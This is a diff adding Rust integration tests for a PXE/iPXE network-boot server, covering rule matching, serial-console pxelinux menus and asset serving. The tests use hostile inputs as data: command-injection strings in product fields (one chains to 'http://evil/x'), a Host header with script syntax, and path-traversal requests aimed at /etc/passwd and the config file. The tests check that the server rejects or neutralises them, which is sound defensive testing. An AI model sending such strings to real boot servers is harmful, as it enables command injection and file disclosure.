@@ -166,3 +166,370 @@ fn render_over_http_is_byte_identical_to_the_cli() {
         "{body}"
     );
 }
+
+#[test]
+fn every_selector_kind_and_the_precedence_order() {
+    let s = server();
+    let cases = [
+        // product glob, case-insensitive
+        ("product=Express5800%2FR120h&mac=52:54:00:99:99:99", "nec"),
+        ("product=express5800%2Fx&mac=52:54:00:99:99:99", "nec"),
+        // mac + product beats product alone (specificity 20 > 4)
+        (
+            "product=Express5800%2Fi120&mac=52:54:00:12:34:56",
+            "one-nec",
+        ),
+        // mac alone
+        ("mac=52:54:00:aa:bb:cc", "by-mac"),
+        ("mac=52:54:00:aa:bb:cd", "by-mac"),
+        // serial glob
+        ("serial=SN-4242&mac=52:54:00:99:99:99", "by-serial"),
+        // uuid in any case
+        (
+            "uuid=4c4c4544-0051-3910-8047-b4c04f564433&mac=52:54:00:99:99:99",
+            "by-uuid",
+        ),
+        // manufacturer
+        (
+            "manufacturer=Dell%20Inc.&mac=52:54:00:99:99:99",
+            "by-vendor",
+        ),
+        // arch from iPXE's platform/buildarch, and explicit arch=
+        (
+            "platform=efi&buildarch=x86_64&mac=52:54:00:99:99:99",
+            "uefi",
+        ),
+        ("arch=7&mac=52:54:00:99:99:99", "uefi"),
+        (
+            "platform=pcbios&buildarch=i386&mac=52:54:00:99:99:99",
+            "default",
+        ),
+        // priority beats specificity: a Pinned product with a listed MAC
+        ("product=Pinned-1&mac=52:54:00:aa:bb:cc", "pinned"),
+        // uuid rule (priority 1) beats the mac rule (priority 0)
+        (
+            "uuid=4c4c4544-0051-3910-8047-b4c04f564433&mac=52:54:00:aa:bb:cc",
+            "by-uuid",
+        ),
+        // nothing known: the catch-all
+        ("mac=52:54:00:99:99:99", "default"),
+        ("", "default"),
+    ];
+    for (query, want) in cases {
+        assert_eq!(rule_of(s.addr, query), want, "query {query:?}");
+    }
+}
+
+#[test]
+fn mac_notations_and_the_seed_query() {
+    let s = server();
+    for mac in [
+        "52:54:00:aa:bb:cc",
+        "52%3A54%3A00%3AAA%3ABB%3ACC",
+        "52-54-00-AA-BB-CC",
+        "525400aabbcc",
+        "01-52-54-00-aa-bb-cc",
+    ] {
+        assert_eq!(rule_of(s.addr, &format!("mac={mac}")), "by-mac", "{mac}");
+    }
+    // The original CGI's query: `type=` for the product.
+    assert_eq!(
+        rule_of(
+            s.addr,
+            "type=Express5800%2Fi120Ra-e1%20%5BN8100-1482Y%5D&mac=52%3A54%3A00%3A12%3A34%3A56"
+        ),
+        "one-nec"
+    );
+}
+
+#[test]
+fn client_strings_cannot_inject_into_scripts_or_menus() {
+    let s = server();
+    let evil = [
+        "Express5800/x%0Achain%20http://evil/x",
+        "Express5800/%24%7Bnet0/mac%7D",
+        "Express5800/a;shell",
+        "Express5800/%22%27%5C%60x%0D%0Aboot",
+        "Express5800/%FF%FE%00x",
+        "Express5800/%26%26%20shell%20%7C%7C%20exit%20%23",
+    ];
+    for product in evil {
+        let (_, body) = get(
+            s.addr,
+            &format!("/ipxe?product={product}&mac=52:54:00:99:99:98"),
+        );
+        let commands: Vec<&str> = body
+            .lines()
+            .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
+            .map(|l| l.split_whitespace().next().unwrap())
+            .collect();
+        assert_eq!(
+            commands,
+            ["echo", "kernel", "initrd", "boot", ":failed", "echo", "sleep", "chain"],
+            "{product}: {body}"
+        );
+        let echo = body.lines().find(|l| l.starts_with("echo pxed:")).unwrap();
+        assert!(
+            !echo.contains(['$', '{', '}', ';', '&', '|', '#', '"', '\'', '\\', '`']),
+            "{echo}"
+        );
+        assert!(echo.contains("-> rule nec"), "{echo}");
+
+        let (_, menu) = get(
+            s.addr,
+            &format!("/pxelinux/pxelinux.cfg/01-52-54-00-00-00-10?product={product}"),
+        );
+        let directives: Vec<&str> = menu
+            .lines()
+            .filter(|l| !l.trim().is_empty())
+            .map(|l| l.split_whitespace().next().unwrap())
+            .collect();
+        assert_eq!(
+            directives,
+            [
+                "SERIAL",
+                "UI",
+                "PROMPT",
+                "TIMEOUT",
+                "MENU",
+                "LABEL",
+                "MENU",
+                "MENU",
+                "KERNEL",
+                "APPEND",
+                "LABEL",
+                "MENU",
+                "LOCALBOOT"
+            ],
+            "{product}: {menu}"
+        );
+    }
+    // A 4 KiB product string is cut, not echoed whole.
+    let long = "A".repeat(4096);
+    let (head, body) = get(
+        s.addr,
+        &format!("/ipxe?product={long}&mac=52:54:00:99:99:98"),
+    );
+    assert!(head.starts_with("HTTP/1.1 200"));
+    assert!(body.len() < 2048, "{}", body.len());
+}
+
+#[test]
+fn unknown_and_malformed_requests_get_a_retry_script() {
+    // No catch-all rule: an unknown machine is told why and retries.
+    let dir = ConfigDir::new(
+        "http_listen = \"127.0.0.1:0\"\ntftp_listen = \"\"",
+        "[[rule]]\nname = \"only\"\nmatch = { mac = \"52:54:00:00:00:01\" }\nkernel = \"k\"\n",
+    );
+    let pxed = Pxed::start(&dir.config(), None);
+    let addr = pxed.http();
+    for query in [
+        "mac=52:54:00:00:00:02&product=Nobody",
+        "mac=zz:zz",
+        "mac=52:54:00:00:00:01%0Aecho",
+    ] {
+        let (head, body) = get(addr, &format!("/ipxe?{query}"));
+        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+        assert!(body.starts_with("#!ipxe\n"), "{body}");
+        assert!(body.contains("echo pxed: "), "{body}");
+        assert!(
+            body.contains(&format!("chain http://{addr}/boot.ipxe")),
+            "{body}"
+        );
+        assert!(body.contains("sleep "), "{body}");
+        assert_eq!(
+            body.lines().filter(|l| l.starts_with("echo pxed:")).count(),
+            2,
+            "{body}"
+        );
+    }
+    let (_, body) = get(addr, "/ipxe?mac=52:54:00:00:00:02");
+    assert!(body.contains("no rule matches this machine"), "{body}");
+    let (_, body) = get(addr, "/ipxe?mac=zz:zz");
+    assert!(body.contains("bad request"), "{body}");
+}
+
+#[test]
+fn bootstrap_chains_to_the_render_endpoint_with_ipxe_settings() {
+    let s = server();
+    let (head, body) = get(s.addr, "/boot.ipxe");
+    assert!(head.starts_with("HTTP/1.1 200"));
+    assert_eq!(
+        header(&head, "content-length"),
+        Some(body.len().to_string().as_str())
+    );
+    assert!(body.starts_with("#!ipxe\n"));
+    let chain = body.lines().find(|l| l.starts_with("chain ")).unwrap();
+    for part in [
+        &format!("http://{}/ipxe?", s.addr)[..],
+        "product=${product:uristring}",
+        "serial=${serial:uristring}",
+        "uuid=${uuid}",
+        "mac=${mac}",
+        "buildarch=${buildarch}",
+        "platform=${platform}",
+    ] {
+        assert!(chain.contains(part), "{part} missing in {chain}");
+    }
+    // A Host header with script syntax is not trusted as the base URL.
+    let (_, body) = raw(
+        s.addr,
+        "GET /boot.ipxe HTTP/1.1\r\nHost: x\necho${evil}\r\nConnection: close\r\n\r\n",
+    );
+    assert!(!String::from_utf8_lossy(&body).contains("evil"));
+}
+
+#[test]
+fn pxelinux_config_is_made_for_a_serial_console() {
+    let s = server();
+    // The iPXE script for a pxelinux rule hands over to lpxelinux.
+    let (_, script) = get(s.addr, "/ipxe?mac=52:54:00:00:00:10&product=Box");
+    assert!(script.contains("set 209:string pxelinux.cfg/01-52-54-00-00-00-10?product=Box&mac=52%3A54%3A00%3A00%3A00%3A10"), "{script}");
+    assert!(
+        script.contains(&format!("set 210:string http://{}/pxelinux/", s.addr)),
+        "{script}"
+    );
+    assert!(
+        script.contains(&format!("chain http://{}/pxelinux/lpxelinux.0", s.addr)),
+        "{script}"
+    );
+
+    let (head, menu) = get(
+        s.addr,
+        "/pxelinux/pxelinux.cfg/01-52-54-00-00-00-10?product=Box&mac=52%3A54%3A00%3A00%3A00%3A10",
+    );
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    assert_eq!(menu.lines().next(), Some("SERIAL 1 115200"), "{menu}");
+    assert!(menu.contains("\nUI menu.c32\n"), "{menu}");
+    assert!(!menu.contains("vesamenu"));
+    assert!(menu.contains("APPEND initrd="), "{menu}");
+    assert!(menu.contains("rule=menu console=ttyS1,115200n8"), "{menu}");
+    assert!(
+        !menu.contains("NOEDIT") && !menu.contains("ALLOWOPTIONS 0"),
+        "the kernel line must stay editable"
+    );
+    for line in menu.lines().filter(|l| l.trim_start().starts_with("MENU")) {
+        assert!(
+            line.trim_start().chars().count() <= 80,
+            "wider than the console: {line}"
+        );
+    }
+    // The long product is cut to fit the title line.
+    let (_, menu) = get(
+        s.addr,
+        &format!(
+            "/pxelinux/pxelinux.cfg/01-52-54-00-00-00-10?product={}",
+            "W".repeat(200)
+        ),
+    );
+    let title = menu.lines().find(|l| l.starts_with("MENU TITLE")).unwrap();
+    assert!(title.chars().count() <= 80, "{title}");
+    // Names pxelinux tries that are not per-MAC get 404 at once.
+    for name in [
+        "default",
+        "C0A80001",
+        "4c4c4544-0051-3910-8047-b4c04f564433",
+    ] {
+        let (head, _) = get(s.addr, &format!("/pxelinux/pxelinux.cfg/{name}"));
+        assert!(head.starts_with("HTTP/1.1 404"), "{name}: {head}");
+    }
+}
+
+#[test]
+fn assets_have_length_range_and_http10() {
+    let s = server();
+    let file: Vec<u8> = (0..100_000u32).map(|i| (i % 251) as u8).collect();
+    let (head, body) = raw(
+        s.addr,
+        "GET /assets/debian/vmlinuz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
+    );
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    assert_eq!(header(&head, "content-length"), Some("100000"));
+    assert_eq!(body, file);
+
+    let (head, body) = raw(s.addr, "GET /assets/debian/vmlinuz HTTP/1.1\r\nHost: x\r\nRange: bytes=1000-1999\r\nConnection: close\r\n\r\n");
+    assert!(head.starts_with("HTTP/1.1 206"), "{head}");
+    assert_eq!(
+        header(&head, "content-range"),
+        Some("bytes 1000-1999/100000")
+    );
+    assert_eq!(body, &file[1000..2000]);
+
+    // lpxelinux speaks HTTP/1.0 without a Host header.
+    let (head, body) = raw(s.addr, "GET /pxelinux/debian/initrd.gz HTTP/1.0\r\n\r\n");
+    assert!(
+        head.starts_with("HTTP/1.0 200") || head.starts_with("HTTP/1.1 200"),
+        "{head}"
+    );
+    assert_eq!(header(&head, "content-length"), Some("6"));
+    assert_eq!(body, b"initrd");
+    let (head, body) = raw(s.addr, "GET /ipxe?mac=52:54:00:aa:bb:cc HTTP/1.0\r\n\r\n");
+    assert!(head.contains(" 200 "), "{head}");
+    assert_eq!(
+        header(&head, "content-length"),
+        Some(body.len().to_string().as_str())
+    );
+    assert!(
+        String::from_utf8_lossy(&body).contains(&format!("http://{}/assets/", s.addr)),
+        "falls back to the local address"
+    );
+
+    // HEAD: length without a body.
+    let (head, body) = raw(
+        s.addr,
+        "HEAD /assets/debian/vmlinuz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
+    );
+    assert!(head.starts_with("HTTP/1.1 200"));
+    assert_eq!(header(&head, "content-length"), Some("100000"));
+    assert!(body.is_empty());
+
+    // Keep-alive: two requests on one connection (iPXE fetches kernel and initrd so).
+    let mut conn = TcpStream::connect(s.addr).unwrap();
+    conn.write_all(b"GET /assets/debian/initrd.gz HTTP/1.1\r\nHost: x\r\n\r\nGET /assets/debian/initrd.gz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").unwrap();
+    let mut all = String::new();
+    conn.read_to_string(&mut all).unwrap();
+    assert_eq!(all.matches("HTTP/1.1 200").count(), 2, "{all}");
+}
+
+#[test]
+fn asset_paths_never_leave_their_root() {
+    let s = server();
+    std::os::unix::fs::symlink("/etc/passwd", s._dir.path().join("assets/passwd")).unwrap();
+    std::os::unix::fs::symlink("/etc", s._dir.path().join("assets/etc")).unwrap();
+    for path in [
+        "/assets/../machines.toml",
+        "/assets/%2e%2e/machines.toml",
+        "/assets/debian/%2E%2E/%2E%2E/machines.toml",
+        "/assets/..%2fmachines.toml",
+        "/assets//etc/passwd",
+        "/assets/%2fetc%2fpasswd",
+        "/assets/passwd",
+        "/assets/etc/hostname",
+        "/assets/debian%5c..%5c..%5cmachines.toml",
+        "/assets/a%00b",
+        "/pxelinux/../machines.toml",
+    ] {
+        let (head, body) = raw(
+            s.addr,
+            &format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
+        );
+        let status: u16 = head.split_whitespace().nth(1).unwrap().parse().unwrap();
+        assert!(matches!(status, 400 | 403 | 404), "{path}: {head}");
+        let body = String::from_utf8_lossy(&body);
+        assert!(
+            !body.contains("root:") && !body.contains("[server]"),
+            "{path} leaked: {body}"
+        );
+        assert!(
+            header(&head, "location").is_none(),
+            "never redirect: {head}"
+        );
+    }
+    // A directory is not a file, and is never redirected to a slash.
+    let (head, _) = raw(
+        s.addr,
+        "GET /assets/debian HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
+    );
+    assert!(head.starts_with("HTTP/1.1 404"), "{head}");
+    drop(s.pxed);
+}
